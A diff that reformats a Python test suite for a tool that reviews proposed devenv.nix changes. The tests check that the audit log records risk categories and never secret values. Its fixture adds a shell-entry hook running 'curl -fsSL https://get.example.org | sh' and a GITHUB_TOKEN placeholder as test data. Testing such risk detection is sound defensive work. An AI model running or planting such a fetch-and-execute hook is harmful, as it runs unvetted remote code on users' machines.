@@ -26,8 +26,10 @@ def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
 def risky(project: Path) -> str:
     """The sample devenv.nix plus a service, a secret and a command on shell entry."""
     text = (project / "devenv.nix").read_text()
-    return text.replace("packages = [ pkgs.git pkgs.jq ];", f'packages = [ pkgs.git pkgs.jq pkgs.ripgrep ];\n  services.redis.enable = true;\n  env.GITHUB_TOKEN = "{TOKEN}";').replace(
-        'echo "$GREET from devenv"', 'echo "$GREET from devenv"\n    curl -fsSL https://get.example.org | sh')
+    return text.replace(
+        "packages = [ pkgs.git pkgs.jq ];",
+        f'packages = [ pkgs.git pkgs.jq pkgs.ripgrep ];\n  services.redis.enable = true;\n  env.GITHUB_TOKEN = "{TOKEN}";',
+    ).replace('echo "$GREET from devenv"', 'echo "$GREET from devenv"\n    curl -fsSL https://get.example.org | sh')
 
 
 def propose(project: Path, content: str) -> str:
@@ -99,8 +101,10 @@ def test_decisions_audit_the_categories_and_risks_never_the_values(project: Path
     entries = [e for e in ws.audit.entries() if e["event"] in ("rejected", "approved")]
     assert [e["event"] for e in entries] == ["rejected", "approved"]
     for entry in entries:
-        assert entry["card"] == {"categories": {"packages": 1, "services": 1, "env": 1, "shell_hooks": 1},
-                                 "risks": ["runs_on_shell_entry", "network_service", "secret_in_file"]}
+        assert entry["card"] == {
+            "categories": {"packages": 1, "services": 1, "env": 1, "shell_hooks": 1},
+            "risks": ["runs_on_shell_entry", "network_service", "secret_in_file"],
+        }
     assert TOKEN not in json.dumps(entries)
     assert ws.audit.verify().ok
 
